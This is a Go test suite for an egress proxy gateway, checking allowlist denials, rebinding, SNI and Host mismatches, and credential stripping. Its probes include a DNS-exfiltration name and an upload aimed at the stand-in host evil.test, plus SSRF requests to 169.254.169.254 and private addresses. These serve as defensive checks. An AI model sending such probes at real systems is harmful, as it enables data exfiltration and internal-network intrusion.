package gateway

import (
	"bufio"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
)

// TestHTTPProxyMatrix: every denial next to its allowed control, through
// plain HTTP and CONNECT.
func TestHTTPProxyMatrix(t *testing.T) {
	w := newWorld(t, nil)
	client := w.httpClient()
	cases := []struct {
		name, url string
		status    int
		rule      string // X-Airlock-Rule on denial
		body      string // allowed: exact body
	}{
		{"plain allowed", "http://api.test/", 200, "", "hello api.test"},
		{"plain allowed, port and trailing dot", "http://API.test.:80/", 200, "", "hello API.test.:80"},
		{"plain denied name", "http://evil.test/", 403, "host evil.test not in allowlist", ""},
		{"plain denied metadata literal", "http://169.254.169.254/latest/meta-data/", 403, "ip literal 169.254.169.254 not allowed", ""},
		{"plain denied private literal", "http://10.0.0.5/", 403, "ip literal 10.0.0.5 not allowed", ""},
		{"plain denied private address of allowed name", "http://internal.test/", 403, "private address 10.0.0.5", ""},
		{"https allowed", "https://api.test/", 200, "", "hello api.test"},
		{"https other allowed", "https://other.test/", 200, "", "hello other.test"},
	}
	for i, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			resp, err := client.Get(tc.url)
			if err != nil {
				t.Fatalf("GET %s: %v", tc.url, err)
			}
			body := readBody(t, resp)
			client.CloseIdleConnections() // ends a CONNECT tunnel, so it is audited
			if resp.StatusCode != tc.status {
				t.Fatalf("GET %s: status %d (%q), want %d", tc.url, resp.StatusCode, body, tc.status)
			}
			rec := w.record(i + 1)
			if tc.status == 200 {
				if body != tc.body || !rec.Allowed {
					t.Errorf("body %q (want %q), record %+v", body, tc.body, rec)
				}
				return
			}
			if got := resp.Header.Get("X-Airlock-Rule"); got != tc.rule {
				t.Errorf("X-Airlock-Rule %q, want %q", got, tc.rule)
			}
			if !strings.HasPrefix(body, "airlock egress: denied ") || !strings.HasSuffix(body, ": "+tc.rule+"\n") {
				t.Errorf("denial body %q", body)
			}
			if ct := resp.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/plain") {
				t.Errorf("Content-Type %q", ct)
			}
			if rec.Allowed || rec.Rule != tc.rule {
				t.Errorf("record %+v, want denied by %q", rec, tc.rule)
			}
		})
	}
	// CONNECT denials, with the body and rule checked on the raw answer.
	for _, tc := range []struct{ target, rule string }{
		{"evil.test:443", "host evil.test not in allowlist"},
		{"internal.test:443", "private address 10.0.0.5"},
		{"127.0.0.1:22", "ip literal 127.0.0.1 not allowed"},
		{"[::1]:443", "ip literal ::1 not allowed"},
		{"[::ffff:127.0.0.1]:443", "ip literal 127.0.0.1 not allowed"},
	} {
		_, _, resp := w.connect(tc.target)
		body := readBody(t, resp)
		if resp.StatusCode != 403 || resp.Header.Get("X-Airlock-Rule") != tc.rule {
			t.Errorf("CONNECT %s: %d %q %q, want 403 by %q", tc.target, resp.StatusCode, resp.Header.Get("X-Airlock-Rule"), body, tc.rule)
		}
	}
	// The https client sees the denial as a proxy error.
	if _, err := client.Get("https://evil.test/"); err == nil || !strings.Contains(err.Error(), "Forbidden") {
		t.Errorf("https GET of a denied host: %v, want a Forbidden proxy error", err)
	}
	for _, d := range w.dials() {
		if d != "203.0.113.10:80" && d != "203.0.113.10:443" && d != "203.0.113.20:443" {
			t.Errorf("dialed %s", d)
		}
	}
}

// TestIPLiteralExplicitAllow: an IP literal passes Host and Addr like any
// name; with an explicit IP rule it goes through (the control).
func TestIPLiteralExplicitAllow(t *testing.T) {
	w := newWorld(t, nil)
	ap := netip.MustParseAddrPort(w.plain.Listener.Addr().String())
	url := "http://" + ap.String() + "/"
	resp, err := w.httpClient().Get(url)
	if err != nil {
		t.Fatal(err)
	}
	readBody(t, resp)
	if resp.StatusCode != 403 {
		t.Fatalf("loopback literal without an IP rule: %d, want 403", resp.StatusCode)
	}
	w.gw.SetPolicy(allow(nil, ap.Addr()))
	resp, err = w.httpClient().Get(url)
	if err != nil {
		t.Fatal(err)
	}
	if body := readBody(t, resp); resp.StatusCode != 200 || !strings.HasPrefix(body, "hello ") {
		t.Fatalf("loopback literal with an IP rule: %d %q", resp.StatusCode, body)
	}
	if got := w.dials(); !slices.Equal(got, []string{ap.String()}) {
		t.Errorf("dialed %v, want only %s", got, ap)
	}
}

// TestPrivateAddressNeedsIPRule: a name on the allowlist that resolves to
// a private address is denied, and allowed with an explicit IP rule.
func TestPrivateAddressNeedsIPRule(t *testing.T) {
	w := newWorld(t, nil)
	for _, c := range []struct {
		name   string
		client *http.Client
	}{{"http", w.httpClient()}, {"socks", w.socksClient()}} {
		w.gw.SetPolicy(allow([]string{"internal.test"}))
		resp, err := c.client.Get("http://internal.test/")
		if c.name == "http" {
			if err != nil {
				t.Fatal(err)
			}
			if body := readBody(t, resp); resp.StatusCode != 403 || !strings.Contains(body, "private address 10.0.0.5") {
				t.Errorf("%s: private address with only the name allowed: %d %q", c.name, resp.StatusCode, body)
			}
		} else if err == nil || !strings.Contains(err.Error(), "not allowed by ruleset") {
			t.Errorf("%s: private address with only the name allowed: %v", c.name, err)
		}
		w.gw.SetPolicy(allow([]string{"internal.test"}, privIP))
		resp, err = c.client.Get("http://internal.test/")
		if err != nil {
			t.Fatalf("%s: with an IP rule: %v", c.name, err)
		}
		if body := readBody(t, resp); resp.StatusCode != 200 || body != "hello internal.test" {
			t.Errorf("%s: with an IP rule: %d %q", c.name, resp.StatusCode, body)
		}
	}
	if got := w.dials(); !slices.Equal(got, []string{"10.0.0.5:80", "10.0.0.5:80"}) {
		t.Errorf("dialed %v, want 10.0.0.5:80 only when allowed", got)
	}
}

// TestRebinding: the resolver's answer changes between calls (public, then
// private). Each connection resolves once and dials what it checked.
func TestRebinding(t *testing.T) {
	loop := netip.MustParseAddr("127.0.0.1")
	for _, via := range []string{"plain", "connect", "socks"} {
		t.Run(via, func(t *testing.T) {
			rb := &rebinder{answers: [][]netip.Addr{{apiIP}, {loop}}}
			w := newWorld(t, func(c *Config) { c.Resolver = rb })
			first := fetchRebind(t, w, via)
			w.waitRecords(1)
			second := fetchRebind(t, w, via)
			if !first {
				t.Errorf("first connection (public answer) failed")
			}
			if second {
				t.Errorf("second connection (private answer) succeeded")
			}
			port := "80"
			if via != "plain" {
				port = "443"
			}
			if got := w.dials(); !slices.Equal(got, []string{"203.0.113.10:" + port}) {
				t.Errorf("dialed %v, want only the checked 203.0.113.10:%s", got, port)
			}
			if n := rb.calls.Load(); n != 2 {
				t.Errorf("resolver asked %d times for 2 connections", n)
			}
			recs := w.waitRecords(2)
			if !recs[0].Allowed || recs[0].Addr != "203.0.113.10:"+port || recs[1].Allowed || recs[1].Rule != "private address 127.0.0.1" {
				t.Errorf("records %+v", recs)
			}
		})
	}
	// One answer mixing a private and a public address: the private one is
	// skipped, the public one dialed.
	rb := &rebinder{answers: [][]netip.Addr{{loop, privIP, apiIP}}}
	w := newWorld(t, func(c *Config) { c.Resolver = rb })
	if !fetchRebind(t, w, "plain") {
		t.Fatal("mixed answer: failed")
	}
	if got := w.dials(); !slices.Equal(got, []string{"203.0.113.10:80"}) {
		t.Errorf("mixed answer: dialed %v", got)
	}
}

// fetchRebind fetches rebind.test (cert-less: the TLS server's cert is for
// api.test, so TLS uses ServerName rebind.test with verification off; the
// point is where the bytes go).
func fetchRebind(t *testing.T, w *world, via string) bool {
	t.Helper()
	switch via {
	case "plain":
		resp, err := w.httpClient().Get("http://rebind.test/")
		if err != nil {
			t.Fatal(err)
		}
		body := readBody(t, resp)
		return resp.StatusCode == 200 && body == "hello rebind.test"
	case "connect":
		c, _, resp := w.connect("rebind.test:443")
		defer c.Close()
		if resp.StatusCode != 200 {
			return false
		}
		return tlsGet(c, "rebind.test", nil) == nil
	default:
		c, err := w.socksDial("rebind.test:443")
		if err != nil {
			return false
		}
		defer c.Close()
		return tlsGet(c, "rebind.test", nil) == nil
	}
}

// tlsGet runs a TLS handshake for sni over c and one GET; roots nil skips
// verification.
func tlsGet(c net.Conn, sni string, w *world) error {
	cfg := &tls.Config{ServerName: sni, InsecureSkipVerify: w == nil}
	if w != nil {
		cfg.RootCAs = w.roots
	}
	tc := tls.Client(c, cfg)
	tc.SetDeadline(time.Now().Add(5 * time.Second))
	if err := tc.Handshake(); err != nil {
		return err
	}
	resp, body, err := get(tc, bufio.NewReader(tc), sni, "/")
	if err != nil {
		return err
	}
	if resp.StatusCode != 200 || body != "hello "+sni {
		return fmt.Errorf("%d %q", resp.StatusCode, body)
	}
	return nil
}

// TestSNIMismatch: CONNECT to api.test with a ClientHello for other.test
// is refused before anything is dialed; the matching SNI succeeds.
func TestSNIMismatch(t *testing.T) {
	w := newWorld(t, nil)
	c, _, resp := w.connect("api.test:443")
	if resp.StatusCode != 200 {
		t.Fatalf("CONNECT: %d", resp.StatusCode)
	}
	if err := tlsGet(c, "other.test", w); err == nil {
		t.Fatal("TLS for other.test through a tunnel to api.test succeeded")
	}
	rec := w.record(1)
	if rec.Allowed || !strings.HasPrefix(rec.Rule, "sni mismatch: ") || !strings.Contains(rec.Rule, `"other.test"`) {
		t.Errorf("record %+v, want an sni mismatch", rec)
	}
	if d := w.dials(); len(d) != 0 {
		t.Errorf("dialed %v for a refused ClientHello", d)
	}

	// Control: the matching SNI, case and trailing dot aside.
	c, _, resp = w.connect("API.test.:443")
	if resp.StatusCode != 200 {
		t.Fatalf("CONNECT: %d", resp.StatusCode)
	}
	if err := tlsGet(c, "api.test", w); err != nil {
		t.Fatalf("matching SNI: %v", err)
	}
	c.Close()
	if rec := w.record(2); !rec.Allowed || rec.Addr != "203.0.113.10:443" || rec.BytesUp == 0 || rec.BytesDown == 0 {
		t.Errorf("record %+v", rec)
	}

	// No SNI at all, for a name.
	c, _, _ = w.connect("api.test:443")
	if err := tlsGet(c, "", nil); err == nil {
		t.Error("a ClientHello without SNI went through")
	}
	if rec := w.record(3); rec.Allowed || !strings.Contains(rec.Rule, "names no server") {
		t.Errorf("record %+v", rec)
	}

	// A ClientHello split over many small TCP segments is reassembled.
	c, _, _ = w.connect("api.test:443")
	if err := tlsGet(&splitConn{Conn: c, n: 50}, "other.test", w); err == nil {
		t.Error("split mismatching ClientHello went through")
	}
	if rec := w.record(4); !strings.HasPrefix(rec.Rule, "sni mismatch") {
		t.Errorf("split: record %+v", rec)
	}
	c, _, _ = w.connect("api.test:443")
	if err := tlsGet(&splitConn{Conn: c, n: 50}, "api.test", w); err != nil {
		t.Errorf("split matching ClientHello: %v", err)
	}
	c.Close()
	if rec := w.record(5); !rec.Allowed {
		t.Errorf("split: record %+v", rec)
	}

	// Not TLS to 443 is refused; to 80 it is allowed (the control).
	c, br, _ := w.connect("api.test:443")
	if _, _, err := get(c, br, "api.test", "/"); err == nil {
		t.Error("plain HTTP through CONNECT to 443 went through")
	}
	if rec := w.record(6); rec.Allowed || !strings.HasPrefix(rec.Rule, "not TLS") {
		t.Errorf("record %+v", rec)
	}
	c, br, _ = w.connect("api.test:80")
	if resp, body, err := get(c, br, "api.test", "/"); err != nil || resp.StatusCode != 200 || body != "hello api.test" {
		t.Errorf("plain HTTP through CONNECT to 80: %v %q", err, body)
	}
}

// splitConn writes in n-byte pieces, a little apart, so the peer reads a
// ClientHello in many TCP reads.
type splitConn struct {
	net.Conn
	n    int
	done bool
}

func (s *splitConn) Write(p []byte) (int, error) {
	if s.done {
		return s.Conn.Write(p)
	}
	s.done = true
	total := 0
	for len(p) > 0 {
		k := min(s.n, len(p))
		n, err := s.Conn.Write(p[:k])
		total += n
		if err != nil {
			return total, err
		}
		p = p[k:]
		time.Sleep(time.Millisecond)
	}
	return total, nil
}

// TestHostHeader: a Host header naming another host than the URL is
// refused; the matching one (the control) and origin-form requests.
func TestHostHeader(t *testing.T) {
	w := newWorld(t, nil)
	c, err := net.Dial("tcp", w.httpProxy)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	br := bufio.NewReader(c)
	resp, body, err := get(c, br, "other.test", "http://api.test/")
	if err != nil || resp.StatusCode != 403 || resp.Header.Get("X-Airlock-Rule") != "host header mismatch" || !strings.Contains(body, "host header mismatch") {
		t.Fatalf("mismatching Host: %v %v %q", err, resp, body)
	}
	// Same connection, kept alive: the matching Host goes through.
	resp, body, err = get(c, br, "api.test:80", "http://api.test/")
	if err != nil || resp.StatusCode != 200 || body != "hello api.test" {
		t.Fatalf("matching Host: %v %v %q", err, resp, body)
	}
	// And a mismatch again: each request's Host lines are its own (the
	// connection's head reader is reused).
	resp, body, err = get(c, br, "other.test", "http://api.test/")
	if err != nil || resp.StatusCode != 403 || !strings.Contains(body, "host header mismatch") {
		t.Fatalf("mismatching Host after a matching one: %v %v %q", err, resp, body)
	}
	recs := w.waitRecords(3)
	if recs[0].Allowed || recs[0].Rule != "host header mismatch" || !recs[1].Allowed || recs[2].Allowed {
		t.Errorf("records %+v", recs)
	}
	if d := w.dials(); len(d) != 1 {
		t.Errorf("dialed %v", d)
	}
	// Origin-form is not a proxy request.
	resp, body, err = get(c, br, "api.test", "/")
	if err != nil || resp.StatusCode != 400 || !strings.Contains(body, "not a proxy request") {
		t.Fatalf("origin-form: %v %v %q", err, resp, body)
	}
	// Several Host headers.
	c2, _ := net.Dial("tcp", w.httpProxy)
	defer c2.Close()
	fmt.Fprintf(c2, "GET http://api.test/ HTTP/1.1\r\nHost: api.test\r\nHost: other.test\r\n\r\n")
	resp, err = http.ReadResponse(bufio.NewReader(c2), nil)
	if err != nil || resp.StatusCode != 400 {
		t.Fatalf("two Host headers: %v %v", err, resp)
	}
}

// TestPlainHTTPForwarding: hop-by-hop and proxy headers are stripped, the
// request body and keep-alive work, several requests on one connection
// are audited one by one.
func TestPlainHTTPForwarding(t *testing.T) {
	w := newWorld(t, nil)
	c, err := net.Dial("tcp", w.httpProxy)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	br := bufio.NewReader(c)
	fmt.Fprintf(c, "GET http://user:secret@api.test/headers?token=s3cret HTTP/1.1\r\nHost: api.test\r\n"+
		"Proxy-Authorization: Basic c2VjcmV0\r\nProxy-Connection: keep-alive\r\nConnection: X-Drop, keep-alive\r\n"+
		"X-Drop: 1\r\nKeep-Alive: 300\r\nX-Keep: 1\r\n\r\n")
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		t.Fatal(err)
	}
	body := readBody(t, resp)
	for _, h := range []string{"Proxy-Authorization", "Proxy-Connection", "Connection", "X-Drop", "Keep-Alive", "Authorization", "User-Agent"} {
		if strings.Contains(body, "\n"+h+"\n") {
			t.Errorf("upstream got %s:\n%s", h, body)
		}
	}
	if !strings.Contains(body, "host=api.test\n") || !strings.Contains(body, "\nX-Keep\n") {
		t.Errorf("upstream got:\n%s", body)
	}
	// A body, with Expect: 100-continue, on the same connection.
	payload := strings.Repeat("x", 100000)
	fmt.Fprintf(c, "POST http://api.test/echo HTTP/1.1\r\nHost: api.test\r\nContent-Length: %d\r\nExpect: 100-continue\r\n\r\n", len(payload))
	resp, err = http.ReadResponse(br, nil)
	if err != nil || resp.StatusCode != 100 {
		t.Fatalf("want 100 Continue: %v %v", err, resp)
	}
	io.WriteString(c, payload)
	resp, err = http.ReadResponse(br, nil)
	if err != nil {
		t.Fatal(err)
	}
	if got := readBody(t, resp); got != payload {
		t.Errorf("echo: %d bytes back, want %d", len(got), len(payload))
	}
	w.waitRecords(2) // records of different connections come in any order
	// A chunked body through the Go client.
	client := w.httpClient()
	resp, err = client.Post("http://api.test/echo", "text/plain", io.MultiReader(strings.NewReader("ab"), strings.NewReader("cd")))
	if err != nil {
		t.Fatal(err)
	}
	if got := readBody(t, resp); got != "abcd" {
		t.Errorf("chunked echo %q", got)
	}
	recs := w.waitRecords(3)
	if recs[0].Path != "/headers" || strings.Contains(fmt.Sprint(recs), "s3cret") || strings.Contains(fmt.Sprint(recs), "secret") {
		t.Errorf("record leaks or misses the path: %+v", recs[0])
	}
	if recs[1].BytesUp != int64(len(payload)) || recs[1].BytesDown != int64(len(payload)) || recs[1].Method != "POST" {
		t.Errorf("echo record %+v", recs[1])
	}
	if recs[2].BytesUp != 4 || recs[2].BytesDown != 4 {
		t.Errorf("chunked echo record %+v", recs[2])
	}
	// https URLs in absolute form are refused: CONNECT is the way.
	resp, body, err = get(c, br, "api.test", "https://api.test/")
	if err != nil || resp.StatusCode != 400 || !strings.Contains(body, "CONNECT") {
		t.Errorf("absolute https: %v %v %q", err, resp, body)
	}
}

// TestUnreachable: an unresolvable name is a 502; a dial failure is a 502
// for plain HTTP and a closed tunnel for CONNECT (the 200 goes out before
// dialing, so a bad ClientHello never reaches upstream).
func TestUnreachable(t *testing.T) {
	w := newWorld(t, func(c *Config) { c.Policy = allow(append(defaultNames, "nowhere.test")) })
	client := w.httpClient()
	resp, err := client.Get("http://nowhere.test/")
	if err != nil {
		t.Fatal(err)
	}
	if body := readBody(t, resp); resp.StatusCode != 502 || !strings.Contains(body, "cannot resolve nowhere.test") {
		t.Errorf("unresolvable: %d %q", resp.StatusCode, body)
	}
	if rec := w.record(1); !strings.HasPrefix(rec.Error, "resolve: ") {
		t.Errorf("record %+v", rec)
	}
	_, _, resp = w.connect("nowhere.test:443")
	if resp.StatusCode != 502 {
		t.Errorf("unresolvable CONNECT: %d", resp.StatusCode)
	}
	if rec := w.record(2); !strings.HasPrefix(rec.Error, "resolve: ") {
		t.Errorf("record %+v", rec)
	}
	resp, err = client.Get("http://down.test/")
	if err != nil {
		t.Fatal(err)
	}
	if body := readBody(t, resp); resp.StatusCode != 502 || !strings.Contains(body, "no route to host") {
		t.Errorf("dial failure: %d %q", resp.StatusCode, body)
	}
	if rec := w.record(3); !strings.HasPrefix(rec.Error, "dial") || rec.Addr != "203.0.113.99:80" {
		t.Errorf("record %+v", rec)
	}
	c, _, resp := w.connect("down.test:443")
	if resp.StatusCode != 200 {
		t.Fatalf("CONNECT down.test: %d", resp.StatusCode)
	}
	if err := tlsGet(c, "down.test", nil); err == nil {
		t.Error("tunnel to an unreachable address worked")
	}
	if rec := w.record(4); !strings.HasPrefix(rec.Error, "dial: ") || rec.Addr != "203.0.113.99:443" {
		t.Errorf("record %+v", rec)
	}
	// Hosts that are not hosts.
	for _, target := range []string{"127.1:80", "2130706433:80", "a..b:80", "x_y.test:0", "[fe80::1%25eth0]:80", "bad host:80"} {
		c, err := net.Dial("tcp", w.httpProxy)
		if err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\n\r\n", target)
		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
		c.Close()
		if err != nil || resp.StatusCode != 400 {
			t.Errorf("CONNECT %q: %v %v, want 400", target, err, resp)
		}
	}
}

// TestHeaderTimeout: a client that says nothing is dropped.
func TestHeaderTimeout(t *testing.T) {
	w := newWorld(t, func(c *Config) { c.HeaderTimeout = 200 * time.Millisecond })
	for _, addr := range []string{w.httpProxy, w.socksProxy} {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		c.Write([]byte{5}) // half a greeting / half a request line
		c.SetReadDeadline(time.Now().Add(5 * time.Second))
		start := time.Now()
		_, err = c.Read(make([]byte, 1))
		if err == nil || time.Since(start) > 3*time.Second {
			t.Errorf("%s: silent client kept for %v (%v)", addr, time.Since(start), err)
		}
		c.Close()
	}
}

// countingResolver counts lookups by name.
type countingResolver struct {
	Resolver
	mu    sync.Mutex
	names []string
}

func (r *countingResolver) LookupNetIP(ctx context.Context, host string) ([]netip.Addr, error) {
	r.mu.Lock()
	r.names = append(r.names, host)
	r.mu.Unlock()
	return r.Resolver.LookupNetIP(ctx, host)
}

// TestDeniedNameNotResolved: a name the policy denies is never looked up
// (no DNS exfiltration through the gateway's resolver); an allowed one is,
// once per connection.
func TestDeniedNameNotResolved(t *testing.T) {
	var cr *countingResolver
	w := newWorld(t, func(c *Config) {
		cr = &countingResolver{Resolver: c.Resolver}
		c.Resolver = cr
	})
	resp, err := w.httpClient().Get("http://c2VjcmV0.evil.test/")
	if err != nil {
		t.Fatal(err)
	}
	readBody(t, resp)
	_, _, resp = w.connect("c2VjcmV0.evil.test:443")
	readBody(t, resp)
	if _, err := w.socksDial("c2VjcmV0.evil.test:443"); err == nil {
		t.Fatal("SOCKS to a denied name")
	}
	resp, err = w.httpClient().Get("http://api.test/")
	if err != nil {
		t.Fatal(err)
	}
	readBody(t, resp)
	cr.mu.Lock()
	defer cr.mu.Unlock()
	if !slices.Equal(cr.names, []string{"api.test"}) {
		t.Errorf("looked up %v, want only api.test", cr.names)
	}
}

// TestDeniedWithBody: a denied request whose body was not read still gets
// its 403 (the connection is not reset under the client).
func TestDeniedWithBody(t *testing.T) {
	w := newWorld(t, nil)
	body := strings.Repeat("b", 1<<20)
	resp, err := w.httpClient().Post("http://evil.test/upload", "text/plain", strings.NewReader(body))
	if err != nil {
		t.Fatalf("POST to a denied host: %v, want a 403", err)
	}
	if b := readBody(t, resp); resp.StatusCode != 403 || !strings.Contains(b, "denied evil.test:80") {
		t.Errorf("POST to a denied host: %d %q", resp.StatusCode, b)
	}
	// The control: the same upload to an allowed host.
	resp, err = w.httpClient().Post("http://api.test/echo", "text/plain", strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if b := readBody(t, resp); resp.StatusCode != 200 || len(b) != len(body) {
		t.Errorf("POST to an allowed host: %d, %d bytes", resp.StatusCode, len(b))
	}
}

// panicky panics for one host: a bug in a Policy.
type panicky struct{ testPolicy }

func (p panicky) Host(host string, port int) Decision {
	if host == "boom.test" {
		panic("policy bug")
	}
	return p.testPolicy.Host(host, port)
}

// TestPolicyPanic: a panicking policy costs the connection (closed, so
// nothing gets out), not the gateway.
func TestPolicyPanic(t *testing.T) {
	w := newWorld(t, func(c *Config) { c.Policy = panicky{allow(defaultNames)} })
	c, err := net.Dial("tcp", w.httpProxy)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	fmt.Fprintf(c, "CONNECT boom.test:443 HTTP/1.1\r\n\r\n")
	c.SetReadDeadline(time.Now().Add(5 * time.Second))
	if b, _ := io.ReadAll(c); len(b) != 0 {
		t.Errorf("answer from a panicking policy: %q", b)
	}
	if d := w.dials(); len(d) != 0 {
		t.Errorf("dialed %v", d)
	}
	resp, err := w.httpClient().Get("http://api.test/")
	if err != nil {
		t.Fatal(err)
	}
	if readBody(t, resp); resp.StatusCode != 200 {
		t.Errorf("after a panic: %d", resp.StatusCode)
	}
}

func TestStaticResolver(t *testing.T) {
	ip := netip.MustParseAddr("192.0.2.1")
	r := &StaticResolver{Hosts: map[string][]netip.Addr{"Mixed.Test": {ip}}}
	for _, name := range []string{"mixed.test", "MIXED.test.", "Mixed.Test"} {
		if got, err := r.LookupNetIP(context.Background(), name); err != nil || !slices.Equal(got, []netip.Addr{ip}) {
			t.Errorf("%s: %v %v", name, got, err)
		}
	}
	if got, err := r.LookupNetIP(context.Background(), "localhost"); err == nil {
		t.Errorf("nil fallback resolved localhost to %v", got)
	}
}
